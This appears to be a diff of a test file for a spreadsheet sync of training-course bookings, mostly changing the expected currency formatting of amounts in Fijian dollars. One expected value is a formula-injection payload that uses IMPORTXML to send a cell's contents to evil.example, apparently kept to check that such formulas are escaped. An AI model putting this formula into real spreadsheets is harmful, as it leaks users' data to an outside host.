@@ -73,9 +73,9 @@ describe("the sheet sync updating rows", () => {
     expect(training(before[1])).toEqual([
       trainingRows.JANUARY_SUVA,
       "Held",
-      "FJD $1500.00",
-      "FJD $0.00",
-      "FJD $0.00",
+      "FJD 1,500.00",
+      "FJD 0.00",
+      "FJD 0.00",
     ]);
 
     await trainingRows.setPlaceState(t.database.db, seatId, "offered", new Date("2027-01-05T00:00:00Z"));
@@ -90,9 +90,9 @@ describe("the sheet sync updating rows", () => {
     expect(training(after[1])).toEqual([
       trainingRows.JANUARY_SUVA,
       "Offered until 5 January 2027",
-      "FJD $1500.00",
-      "FJD $0.00",
-      "FJD $1500.00",
+      "FJD 1,500.00",
+      "FJD 0.00",
+      "FJD 1,500.00",
     ]);
     expect(after[1]?.slice(0, CSV_COLUMNS.length)).toEqual(before[1]?.slice(0, CSV_COLUMNS.length));
     expect([after[0], after[2], after[3]]).toEqual([before[0], before[2], before[3]]);
@@ -119,9 +119,9 @@ describe("the sheet sync updating rows", () => {
       '\'=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")',
       trainingRows.JANUARY_SUVA,
       "Confirmed",
-      "FJD $1500.00",
-      "FJD $500.00",
-      "FJD $1000.00",
+      "FJD 1,500.00",
+      "FJD 500.00",
+      "FJD 1,000.00",
     ]);
     expect(sheet()).toHaveLength(4);
   });
